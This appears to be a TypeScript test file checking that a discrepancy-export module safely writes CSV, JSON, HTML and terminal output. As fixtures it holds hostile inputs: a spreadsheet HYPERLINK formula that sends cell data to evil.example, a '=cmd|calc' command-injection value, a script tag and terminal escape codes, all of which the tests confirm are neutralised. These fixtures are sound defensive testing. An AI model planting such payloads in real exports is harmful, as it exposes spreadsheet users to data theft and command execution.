import { PassThrough } from 'node:stream';
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import type { Pool } from 'pg';
import { amountCell, neutraliseCell } from '../../src/discrepancies/csvCells.js';
import { discrepanciesJson, writeDiscrepanciesJson } from '../../src/discrepancies/discrepanciesJson.js';
import type { DiscrepancySummary } from '../../src/discrepancies/discrepancyTypes.js';
import { escapeHtml } from '../../src/discrepancies/escapeHtml.js';
import { renderHtmlSummary } from '../../src/discrepancies/renderHtmlSummary.js';
import { reviewDiscrepancies } from '../../src/discrepancies/reviewDiscrepancies.js';
import { streamDiscrepancies } from '../../src/discrepancies/streamDiscrepancies.js';
import { summaryData } from '../../src/discrepancies/summaryData.js';
import { CSV_COLUMNS, writeDiscrepanciesCsv } from '../../src/discrepancies/writeDiscrepanciesCsv.js';
import { terminalSafe, writeDiscrepancyTable } from '../../src/discrepancies/writeDiscrepancyTable.js';
import { sqlPool } from '../support/fixtures.js';
import { useFreshDatabase } from '../support/freshDatabase.js';
import { raise } from './seed.js';

/** None of this file's seeded discrepancies is acknowledged (test/discrepancies/atRisk.test.ts covers that). */
const NONE_ACKNOWLEDGED = { count: 0, amountAtRisk: '0' };
const HYPERLINK = '=HYPERLINK("http://evil.example/x?c="&A1,"click")';
const SCRIPT = '<script>alert(1)</script>';

/** Collects everything written to a stream. */
function sink(): { stream: PassThrough; bytes: () => Buffer } {
  const stream = new PassThrough();
  const chunks: Buffer[] = [];
  stream.on('data', (chunk: Buffer) => chunks.push(chunk));
  return { stream, bytes: () => Buffer.concat(chunks) };
}

async function* from<T>(items: T[]): AsyncGenerator<T> {
  for (const item of items) yield item;
}

describe('discrepancy exports: CSV, JSON, HTML report, terminal table', () => {
  const db = useFreshDatabase('disc_exports');
  let sql: Pool;
  const e: Record<string, string> = {};
  let rows: DiscrepancySummary[];

  before(async () => {
    sql = sqlPool(db.url);
    const make = async (name: string, fields: Parameters<typeof raise>[1], age: string) => {
      e[name] = await raise(sql, fields);
      await sql.query(`UPDATE discrepancies SET created_at = now() - $2::interval WHERE id = $1`, [
        e[name],
        age,
      ]);
    };
    await make(
      'e1',
      {
        partner: 'acme-pay',
        reference: HYPERLINK,
        partnerReference: '+1',
        summary: '@SUM(A1:A2)',
        amountAtRisk: '12345678901234567.89',
        currency: 'BRL',
      },
      '5 hours',
    );
    await make(
      'e2',
      {
        partner: 'acme-pay',
        reference: '\tx',
        partnerReference: '\rx',
        summary: '-2+3',
        amountAtRisk: '-5.00',
      },
      '2 days',
    );
    await make(
      'e3',
      {
        partner: 'acme-pay',
        kind: 'orphan_partner_record',
        reference: 'Ação café "quoted", comma\nnewline',
        partnerReference: null,
        amountAtRisk: null,
        currency: null,
      },
      '5 days',
    );
    await make(
      'e4',
      {
        partner: 'globex-sms',
        kind: 'missing_at_partner',
        reference: SCRIPT,
        amountAtRisk: '100.25',
        currency: 'USD',
      },
      '10 days',
    );
    await make('e5', { partner: 'globex-sms', amountAtRisk: '0.10', currency: 'BRL' }, '40 days');
    await make('e6', { partner: 'acme-pay', amountAtRisk: '1000.00', currency: 'BRL' }, '1 hour');
    await reviewDiscrepancies(sql, [e.e6], 'resolve', {
      note: 'refunded',
      by: 'alice',
      assignee: '=cmd|calc',
    });
    await reviewDiscrepancies(sql, [e.e2], 'acknowledge', { note: 'n', by: 'alice', assignee: '@bob' });
    await reviewDiscrepancies(sql, [e.e2], 'dismiss', { note: 'n', by: 'alice' });
    rows = [];
    for await (const row of streamDiscrepancies(sql, { sort: 'createdAt', direction: 'desc' }))
      rows.push(row);
  });
  after(async () => {
    await sql.end();
  });

  describe('CSV', () => {
    it('starts with the UTF-8 BOM, has a header, and parses back cell by cell with formulas neutralised', async () => {
      const out = sink();
      const written = await writeDiscrepanciesCsv(from(rows), out.stream);
      expect(written).to.equal(6);
      const bytes = out.bytes();
      expect([...bytes.subarray(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
      const text = bytes.toString('utf8');
      expect(text).to.contain('\r\n');
      const records: string[][] = parse(bytes, { bom: true, relax_column_count: false });
      expect(records[0]).to.deep.equal([...CSV_COLUMNS]);
      const byId = new Map(records.slice(1).map((record) => [record[0], record]));
      const at = (name: string) => rows.find((row) => row.id === e[name])!;
      const iso = (name: string) => [at(name).createdAt.toISOString(), at(name).updatedAt.toISOString()];
      expect(byId.get(e.e1)).to.deep.equal([
        e.e1,
        'amount_mismatch',
        'acme-pay',
        'open',
        `'${HYPERLINK}`,
        "'+1",
        '12345678901234567.89',
        'BRL',
        "'@SUM(A1:A2)",
        '',
        '',
        '',
        ...iso('e1'),
      ]);
      expect(byId.get(e.e2)).to.deep.equal([
        e.e2,
        'amount_mismatch',
        'acme-pay',
        'dismissed',
        "'\tx",
        "'\rx",
        '-5.00',
        'BRL',
        "'-2+3",
        "'@bob",
        '',
        '',
        ...iso('e2'),
      ]);
      expect(byId.get(e.e3)!.slice(4, 8)).to.deep.equal(['Ação café "quoted", comma\nnewline', '', '', '']);
      expect(byId.get(e.e4)![4]).to.equal(SCRIPT);
      expect(byId.get(e.e6)![9]).to.equal("'=cmd|calc");
      expect(byId.get(e.e1)![12]).to.match(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
      // No cell of the file starts a formula, except the plain decimal amounts.
      for (const record of records.slice(1)) {
        record.forEach((cell, i) => {
          if (CSV_COLUMNS[i] === 'amountAtRisk') expect(cell).to.match(/^(-?\d+(\.\d+)?)?$/);
          else expect(cell).not.to.match(/^[=+\-@\t\r]/);
        });
      }
    });

    it('an empty export is the BOM and the header', async () => {
      const out = sink();
      expect(await writeDiscrepanciesCsv(from([]), out.stream)).to.equal(0);
      expect(out.bytes().toString('utf8')).to.equal(`\ufeff${CSV_COLUMNS.join(',')}\r\n`);
    });

    it('neutraliseCell prefixes exactly the dangerous first characters; amountCell keeps plain decimals', () => {
      expect(['=1+1', '+1', '-1', '@A1', '\tx', '\rx'].map(neutraliseCell)).to.deep.equal([
        "'=1+1",
        "'+1",
        "'-1",
        "'@A1",
        "'\tx",
        "'\rx",
      ]);
      expect(['a=1', ' =1', '1-2', "'x", ''].map(neutraliseCell)).to.deep.equal([
        'a=1',
        ' =1',
        '1-2',
        "'x",
        '',
      ]);
      expect(
        ['-5.00', '12345678901234567.89', '0', '-0.5'].map((amount) => amountCell(amount)),
      ).to.deep.equal(['-5.00', '12345678901234567.89', '0', '-0.5']);
      // The `;` export's decimal comma: the same digits, the mark changed, nothing else.
      expect(
        ['-5.00', '12345678901234567.89', '0', '-0.5'].map((amount) => amountCell(amount, ',')),
      ).to.deep.equal(['-5,00', '12345678901234567,89', '0', '-0,5']);
      expect(amountCell(null, ',')).to.equal('');
      expect(amountCell('-2+3', ',')).to.equal("'-2+3");
      expect(amountCell(null)).to.equal('');
      expect(amountCell('-2+3')).to.equal("'-2+3");
      expect(amountCell('=1')).to.equal("'=1");
    });
    it('neutraliseCell also guards every line break and separator inside a cell, and full-width signs', () => {
      expect(
        [
          'lf\n=1+1',
          'cr\r=2+2',
          'crlf\r\n@A1',
          'a;=3+3;b',
          'a,+4',
          '\uFF1D1',
          '\uFF0B1',
          '\uFF0D1',
          '\uFF20A1',
          'x\n\uFF1D1',
          '\r=1',
        ].map(neutraliseCell),
      ).to.deep.equal([
        "lf\n'=1+1",
        "cr\r'=2+2",
        "crlf\r\n'@A1",
        "a;'=3+3;b",
        "a,'+4",
        "'\uFF1D1",
        "'\uFF0B1",
        "'\uFF0D1",
        "'\uFF20A1",
        "x\n'\uFF1D1",
        "'\r'=1",
      ]);
      expect(['a, b', 'x\ny', '1;2'].map(neutraliseCell)).to.deep.equal(['a, b', 'x\ny', '1;2']);
    });

    it('quotes every cell with a bare LF, a bare CR or either separator, for both separators', async () => {
      const row = {
        ...rows[0],
        reference: 'lf\nx',
        partnerReference: 'cr\rx',
        summary: 'a;b',
        assignee: 'a,b',
      };
      for (const separator of ['comma', 'semicolon'] as const) {
        const out = sink();
        await writeDiscrepanciesCsv(from([row]), out.stream, { separator });
        const text = out.bytes().toString('utf8');
        for (const cell of ['"lf\nx"', '"cr\rx"', '"a;b"', '"a,b"']) expect(text, separator).to.contain(cell);
        const d = separator === 'comma' ? ',' : ';';
        expect(text.split('\r\n')[0]).to.equal(`\ufeff${CSV_COLUMNS.join(d)}`);
      }
    });
  });

  describe('JSON', () => {
    it('an array of objects with the documented fields; amounts as strings, instants as ISO 8601', async () => {
      const json = discrepanciesJson(rows);
      const e1 = json.find((row) => row.id === e.e1)!;
      expect(Object.keys(e1)).to.include.members([
        'id',
        'kind',
        'partner',
        'status',
        'reference',
        'partnerReference',
        'amountAtRisk',
        'currency',
        'createdAt',
      ]);
      expect(e1).to.include({
        kind: 'amount_mismatch',
        partner: 'acme-pay',
        status: 'open',
        reference: HYPERLINK,
        partnerReference: '+1',
        amountAtRisk: '12345678901234567.89',
        currency: 'BRL',
      });
      expect(e1.createdAt).to.equal(rows.find((row) => row.id === e.e1)!.createdAt.toISOString());
      const out = sink();
      expect(await writeDiscrepanciesJson(from(rows), out.stream)).to.equal(6);
      expect(JSON.parse(out.bytes().toString('utf8'))).to.deep.equal(json);
      const empty = sink();
      await writeDiscrepanciesJson(from([]), empty.stream);
      expect(JSON.parse(empty.bytes().toString('utf8'))).to.deep.equal([]);
    });
  });

  describe('HTML report', () => {
    it('summaryData: unsettled totals per currency, partner, kind and age computed by PostgreSQL, currencies never added', async () => {
      const data = await summaryData(sql, {});
      expect(data.statusCounts).to.deep.equal([
        { status: 'open', count: 4 },
        { status: 'resolved', count: 1 },
        { status: 'dismissed', count: 1 },
      ]);
      expect(data.atRisk.count).to.equal(4);
      expect(data.atRisk.byCurrency).to.deep.equal([
        {
          currency: 'BRL',
          count: 2,
          amountAtRisk: '12345678901234567.99',
          withoutAmount: 0,
          acknowledged: NONE_ACKNOWLEDGED,
        },
        {
          currency: 'USD',
          count: 1,
          amountAtRisk: '100.25',
          withoutAmount: 0,
          acknowledged: NONE_ACKNOWLEDGED,
        },
        { currency: null, count: 1, amountAtRisk: '0', withoutAmount: 1, acknowledged: NONE_ACKNOWLEDGED },
      ]);
      expect(data.atRisk.byPartner).to.deep.equal([
        {
          key: 'acme-pay',
          currency: 'BRL',
          count: 1,
          amountAtRisk: '12345678901234567.89',
          withoutAmount: 0,
          acknowledged: NONE_ACKNOWLEDGED,
        },
        {
          key: 'acme-pay',
          currency: null,
          count: 1,
          amountAtRisk: '0',
          withoutAmount: 1,
          acknowledged: NONE_ACKNOWLEDGED,
        },
        {
          key: 'globex-sms',
          currency: 'BRL',
          count: 1,
          amountAtRisk: '0.10',
          withoutAmount: 0,
          acknowledged: NONE_ACKNOWLEDGED,
        },
        {
          key: 'globex-sms',
          currency: 'USD',
          count: 1,
          amountAtRisk: '100.25',
          withoutAmount: 0,
          acknowledged: NONE_ACKNOWLEDGED,
        },
      ]);
      expect(data.atRisk.byKind.map((k) => [k.key, k.currency, k.count, k.amountAtRisk])).to.deep.equal([
        ['amount_mismatch', 'BRL', 2, '12345678901234567.99'],
        ['missing_at_partner', 'USD', 1, '100.25'],
        ['orphan_partner_record', null, 1, '0'],
      ]);
      expect(
        data.atRisk.ageing.map((a) => [a.bucket, a.count, a.byCurrency.map((t) => t.currency)]),
      ).to.deep.equal([
        ['<1d', 1, ['BRL']],
        ['1-3d', 0, []],
        ['3-7d', 1, [null]],
        ['7-30d', 1, ['USD']],
        ['>30d', 1, ['BRL']],
      ]);
      expect(data.totalRows).to.equal(6);
      expect(data.rows).to.have.length(6);

      const acme = await summaryData(
        sql,
        { partner: ['acme-pay'], status: ['resolved'] },
        { tableLimit: 10 },
      );
      expect(acme.atRisk.byCurrency.map((t) => [t.currency, t.amountAtRisk])).to.deep.equal([
        ['BRL', '12345678901234567.89'],
        [null, '0'],
      ]);
      expect(acme.rows.map((row) => row.id)).to.deep.equal([e.e6]);
    });

    it('is one self-contained, escaped, printable page with an SVG chart and the totals per currency', async () => {
      const html = renderHtmlSummary(await summaryData(sql, {}));
      expect(html).to.match(/^<!DOCTYPE html>/);
      expect(html).to.contain('<svg');
      expect(html).to.contain('@media print');
      expect(html).to.contain('12,345,678,901,234,567.99 <small>BRL</small>');
      expect(html).to.contain('100.25 <small>USD</small>');
      // BRL and USD never summed (12345678901234567.99 + 100.25).
      expect(html).not.to.contain('12345678901234668.24');
      expect(html).not.to.contain('12,345,678,901,234,668.24');
      // Partner text escaped, never raw.
      expect(html).not.to.contain(SCRIPT);
      expect(html).to.contain('&lt;script&gt;alert(1)&lt;/script&gt;');
      expect(html).to.contain(escapeHtml(HYPERLINK));
      expect(html).not.to.match(/<script\b/i);
      // Nothing loaded from anywhere: no external references (the only "http://" is the escaped partner text).
      expect(html.split(escapeHtml(HYPERLINK)).join('')).not.to.match(/https?:\/\//i);
      expect(html).not.to.match(/\b(src|href|srcset|action|xlink:href)\s*=/i);
      expect(html).not.to.match(/url\(|@import|<(link|img|iframe|object|embed)\b/i);
      expect(html).to.contain("default-src 'none'");
      for (const bucket of ['&lt;1d', '1-3d', '3-7d', '7-30d', '&gt;30d'])
        expect(html).to.contain(`<td>${bucket}</td>`);
    });

    it('escapeHtml escapes the five HTML-significant characters and nothing else', () => {
      expect(escapeHtml(`<a href="x" title='y'>&amp; é</a>`)).to.equal(
        '&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;amp; é&lt;/a&gt;',
      );
      expect(escapeHtml(null)).to.equal('');
      expect(escapeHtml(undefined)).to.equal('');
      expect(escapeHtml(12)).to.equal('12');
    });
  });

  describe('terminal table', () => {
    it('aligns columns and replaces control characters from partner data', async () => {
      const out = sink();
      expect(await writeDiscrepancyTable(from(rows), out.stream)).to.equal(6);
      const lines = out.bytes().toString('utf8').trimEnd().split('\n');
      expect(lines).to.have.length(7);
      expect(lines[0]).to.match(/^\s*ID {2}RAISED\s+ {2}PARTNER/);
      const statusColumn = lines[0].indexOf('STATUS');
      for (const line of lines.slice(1))
        expect(line.slice(statusColumn)).to.match(/^(open|acknowledged|resolved|dismissed)/);
      const table = out.bytes().toString('utf8');
      for (const control of ['\t', '\r', '\u001b']) expect(table).not.to.contain(control);
      expect(terminalSafe('a\u001b[31mred\rb\u202e')).to.equal('a?[31mred?b?');
    });
  });
});
